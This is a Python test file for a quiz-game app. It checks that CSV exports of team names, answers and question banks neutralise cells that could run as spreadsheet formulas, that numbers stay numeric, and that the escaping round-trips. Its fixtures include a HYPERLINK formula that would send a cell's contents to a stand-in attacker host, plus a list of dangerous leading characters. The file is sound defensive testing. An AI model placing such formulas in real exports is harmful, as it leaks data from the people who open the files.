"""Cells a person typed cannot become spreadsheet formulas in any CSV the program writes;
numbers the program wrote stay numbers; a bank still round-trips (issue 12, item 5)."""
import csv
import io

import pytest

from facilitator.games.partida import Game, Question, parse_settings
from facilitator.questions import load_bank, read_csv, write_csv
from facilitator.questions.csv_bank import neutralise, unneutralise
from facilitator.games.partida.exports import standings_csv, turns_csv

LINK = '=HYPERLINK("http://evil.example/?d="&A1,"ver")'
NAMES = [LINK, "+34 600 000", "-Rojo", "@Azul"]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def game() -> Game:
    settings = parse_settings({"teams": [{"name": n, "members": 4} for n in NAMES],
                               "round_modes": [["simple"]]})
    questions = [Question(f"kant-vf-{i}", "Kant", "vf", "=1+1 ¿verdadero?", "-Verdadero",
                          "@nota") for i in range(1, 9)]
    g = Game(settings, questions)
    for action in [{"do": "declare", "mode": "simple", "target": 2},
                   {"do": "choose", "author": "Kant", "type": "vf"},
                   {"do": "question", "id": "kant-vf-1"},
                   {"do": "write", "team": 2, "text": '=HYPERLINK("http://evil","clic")'},
                   {"do": "spokesperson", "team": 1, "name": "+Ana"},
                   {"do": "verdict", "result": "wrong"},
                   {"do": "written", "correct": False},
                   {"do": "end_turn"},
                   {"do": "adjust", "team": 3, "points": -1.5, "reason": "-ruido"}]:
        g.play(action)
    return g


def rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


def assert_no_formula(table: list[dict]):
    for row in table:
        for key, cell in row.items():
            assert not cell.startswith(DANGEROUS) or _is_number(cell), (key, cell)


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_standings_neutralise_team_names_and_keep_scores_numeric():
    table = rows(standings_csv(game()))
    assert_no_formula(table)
    by_team = {int(r["team"]): r for r in table}
    assert by_team[1]["name"] == "'" + LINK
    assert by_team[2]["name"] == "'+34 600 000"
    assert by_team[3]["name"] == "'-Rojo"
    assert by_team[4]["name"] == "'@Azul"
    assert by_team[1]["score"] == "-0.5"            # the pifie: a number, not "'-0.5"
    assert by_team[3]["score"] == "-1.5" and by_team[3]["adjustments"] == "-1.5"


def test_turns_neutralise_written_answers_questions_and_names():
    table = rows(turns_csv(game()))
    assert_no_formula(table)
    (turn,) = table
    assert turn["written"] == "'" + '=HYPERLINK("http://evil","clic")'
    assert turn["question_text"] == "'=1+1 ¿verdadero?"
    assert turn["spokespersons"] == "1: +Ana"            # starts with a digit: harmless
    assert turn["points_team_1"] == "-0.5"


@pytest.mark.parametrize("text", [LINK, "+1", "-1", "@x", "\tx", "\rx", "'=x", "''-x"])
def test_neutralise_and_unneutralise_are_inverse(text):
    assert neutralise(text).startswith("'")
    assert unneutralise(neutralise(text)) == text


@pytest.mark.parametrize("text", ["Kant", "'quoted'", "1-2", "", "¿=?"])
def test_harmless_text_is_left_alone(text):
    assert neutralise(text) == text and unneutralise(text) == text


def test_numbers_are_not_neutralised():
    assert neutralise(-0.5) == -0.5 and neutralise(-3) == -3


def test_a_bank_with_formulas_exports_neutralised_and_imports_back_exactly(tmp_path):
    questions = [
        Question("kant-vf-1", "Kant", "vf", "=2+2 es 4", "+Verdadero", "-nota"),
        Question("kant-vf-2", "@Kant", "vf", "'=ya citado", "''-doble", "normal"),
        Question("=id", "Kant", "quien", "¿Quién?", "Kant", ""),
    ]
    path = tmp_path / "banco.csv"
    write_csv(questions, path)
    text = path.read_text(encoding="utf-8-sig")
    assert "'=2+2 es 4" in text and "'+Verdadero" in text and "'-nota" in text
    assert "'@Kant" in text and "''=ya citado" in text and "'=id" in text
    assert_no_formula(rows(text))
    report = read_csv(path.read_bytes(), "banco.csv")
    assert not report.errors
    assert [q for q in report.questions] == questions
    assert load_bank(path).questions == questions
